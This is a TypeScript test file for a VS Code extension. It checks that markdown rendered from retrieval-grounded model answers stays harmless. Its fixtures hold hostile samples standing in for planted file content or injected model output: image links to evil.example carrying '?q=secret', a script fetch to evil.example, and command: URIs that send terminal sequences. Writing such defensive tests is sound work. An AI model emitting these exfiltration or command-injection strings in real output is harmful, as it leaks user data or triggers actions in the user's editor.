import { describe, expect, it } from "vitest";
import type { GroundedAnswer, Source } from "../../../../src/core/groundedAnswer.ts";
import { verifyCitations } from "../../../../src/retrieval/grounding/verifyCitations.ts";
import { answerMarkdown, OPEN_PLACE, partMarkdown } from "../../../../src/vscode/asking/answerMarkdown.ts";
import { nodesOf } from "../../../support/markdownNodes.ts";

const context = {
  folder: "/work space/[a](b)",
  t: (text: string, ...args: (string | number)[]) =>
    text.replace(/\{(\d)\}/g, (_, index: string) => String(args[Number(index)])),
};
/** What somebody may have put into a file that is indexed. */
const HOSTILE_TEXT = [
  "The quince has 6 buds on each arm.",
  "![x](https://evil.example/p.png?q=secret) <img src=https://evil.example/q.png>",
  "[run](command:workbench.action.terminal.sendSequence?%7B%7D) <a href='command:x'>x</a>",
  "```",
  "[2]: https://evil.example",
  "````\n![y](https://evil.example/r.png)",
].join("\n");
const sources: Source[] = [
  {
    number: 1,
    path: "docs/](command:evil) .md",
    startLine: 3,
    endLine: 9,
    title: '<img src=x> "title"',
    text: HOSTILE_TEXT,
  },
  { number: 2, path: "docs/quince.md", startLine: 1, endLine: 2, text: "The quince is pruned in month 5." },
];
const evidence = { isEnough: true, coverage: 1, margin: 1, likelihood: 1, missing: [] };
const base = { question: "q", query: "q", sources, evidence };

function answered(text: string): GroundedAnswer {
  return {
    ...base,
    outcome: "answered",
    statements: verifyCitations(text, sources),
    generation: {
      text,
      finish: "end",
      promptTokens: 900,
      reusedTokens: 0,
      answerTokens: 10,
      firstTokenMs: 300,
      tokensPerSecond: 21.5,
    },
    timings: { searchMs: 20, firstTokenMs: 432 },
  };
}

const textOf = (markdown: string) =>
  nodesOf(markdown)
    .map((node) => ("value" in node ? node.value : ""))
    .join(" ");
const linksOf = (markdown: string) => nodesOf(markdown).flatMap((node) => (node.type === "link" ? [node.url] : []));

/** Nothing may come of a text but words, code, and links that open lines. */
function expectHarmless(markdown: string): void {
  const types = nodesOf(markdown).map(({ type }) => type);
  expect(types).not.toContain("html");
  expect(types).not.toContain("image");
  expect(types).not.toContain("imageReference");
  expect(types).not.toContain("linkReference");
  expect(types).not.toContain("definition");
  for (const url of linksOf(markdown)) {
    expect(url.startsWith(`command:${OPEN_PLACE}?`)).toBe(true);
    const args = JSON.parse(decodeURIComponent(url.slice(url.indexOf("?") + 1))) as unknown[];
    expect(args[0]).toBe(context.folder);
    expect(sources.map(({ path, startLine, endLine }) => [path, startLine, endLine])).toContainEqual(args.slice(1));
  }
}

describe("an answer as markdown", () => {
  it("links what it cites to the lines, and says that they hold it", () => {
    const answer = answered("The quince is pruned in month 5 [2].");
    const markdown = answerMarkdown({ answer, by: { model: "tiny" } }, context);
    expectHarmless(markdown);
    expect(linksOf(markdown)).toHaveLength(3);
    expect(textOf(markdown)).toMatch(/\[2\] docs\/quince\.md:1-2 .*✓ verified/);
    expect(textOf(markdown)).toContain("0.4 s to the first word · 21.5 tokens/s · 2 passages read, 900 tokens · tiny");
    if (!("generation" in answer)) throw new Error("no answer");
    const followUp = { ...answer, generation: { ...answer.generation, reusedTokens: 850 } };
    expect(textOf(answerMarkdown({ answer: followUp, by: { model: "tiny" } }, context))).toContain(
      "900 tokens, 850 of them known",
    );
  });

  it("names the run that answered as the views name it", () => {
    const by = { model: "tiny", run: { id: "20261126-014700-quick", title: "Nov 26, 01:47 quick" } };
    const markdown = textOf(answerMarkdown({ answer: answered("It is pruned in month 5 [2]."), by }, context));
    expect(markdown).toContain("tiny tuned by Nov 26, 01:47 quick");
    expect(markdown).not.toContain(by.run.id);
  });

  it("marks what its source does not say", () => {
    const text = "The quince has 6 buds on each arm [1]. The quince is pruned in month 7 [2].";
    const markdown = answerMarkdown({ answer: answered(text), by: { model: "tiny" } }, context);
    expectHarmless(markdown);
    expect(textOf(markdown)).toContain("⚠ not verified: its lines do not say this");
    expect(textOf(markdown)).toContain("Not in the sources: “The quince is pruned in month 7.”");
  });

  it("shows the passages where nothing of it stands in them, or where it says nothing", () => {
    const wild = answerMarkdown({ answer: answered("Elephants [9] fly at dawn."), by: { model: "tiny" } }, context);
    const { statements, ...rest } = answered("The sources do not say.") as GroundedAnswer & { outcome: "answered" };
    void statements;
    const silent = answerMarkdown(
      { answer: { ...rest, outcome: "abstained", by: "model" }, by: { model: "tiny" } },
      context,
    );
    for (const markdown of [wild, silent]) {
      expectHarmless(markdown);
      const codes = nodesOf(markdown).flatMap((node) => (node.type === "code" ? [node.value] : []));
      expect(codes).toContain("The quince is pruned in month 5.");
      expect(codes.some((code) => code.includes("![x](https://evil.example"))).toBe(true);
    }
    expect(textOf(wild)).toContain("[9] ⚠");
  });

  it.each([
    HOSTILE_TEXT,
    "[1](https://evil.example) ![1](command:x)",
    "See https://evil.example [1] and www.evil.example",
    "<script>fetch('https://evil.example')</script>\n\n[1]: command:evil\n\n[1]",
  ])("is harmless whatever the model was made to say: %j", (text) => {
    expectHarmless(answerMarkdown({ answer: answered(text), by: { model: "![m](https://evil.example)" } }, context));
    for (let length = 1; length < text.length; length += 7) {
      expectHarmless(partMarkdown(text.slice(0, length), sources, context));
    }
  });
});
